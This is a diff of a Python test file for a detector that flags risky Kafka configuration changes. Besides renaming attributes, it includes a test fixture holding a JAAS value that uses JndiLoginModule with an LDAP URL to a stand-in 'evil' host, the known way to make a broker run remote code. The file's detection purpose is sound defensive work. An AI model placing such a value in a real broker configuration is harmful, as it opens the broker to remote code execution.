@@ -34,7 +34,7 @@ def changed(key: str, old: str | None, new: str | None, resource: Resource = BRO
 
 def words(change: Change) -> list[str]:
     """What it weakens, where both values are set: nobody is asked."""
-    return [danger.danger for danger in dangers.certain([change])]
+    return [danger.code for danger in dangers.certain([change])]
 
 
 WEAKER = {
@@ -212,7 +212,7 @@ def test_a_value_that_nobody_may_see_counts(kafka):
     secret = changed("listener.name.x.plain.sasl.jaas.config", None, "env:JAAS", old_known=False, is_secret=True)
     text = Secret("com.sun.security.auth.module.JndiLoginModule required user.provider.url='ldap://evil/';")
     [danger] = dangers.found(kafka, [secret], lambda reference: text)
-    assert danger.danger == "login"
+    assert danger.code == "login"
     assert "it has JndiLoginModule, by which a broker can be made to run code from elsewhere" in danger.message
     assert "evil" not in danger.message
     [unseen] = dangers.found(kafka, [secret], nowhere)
@@ -239,7 +239,7 @@ def test_an_empty_topic_has_nothing_to_lose(kafka):
         ],
     )
     places = [f"topic=t {RETENTION}", f"topic=t {MIN_ISR}", f"topic=new {MIN_ISR}"]
-    told = [f"{danger.resource} {danger.key}" for danger in dangers.found(kafka, plan.changes)]
+    told = [f"{danger.target} {danger.key}" for danger in dangers.found(kafka, plan.changes)]
     assert sorted(told) == sorted(places)
     assert words(changed(RETENTION, "2", "1", TOPIC)) == [], "the row alone does not tell whether the topic is empty"
     kafka.cluster.may_read = False
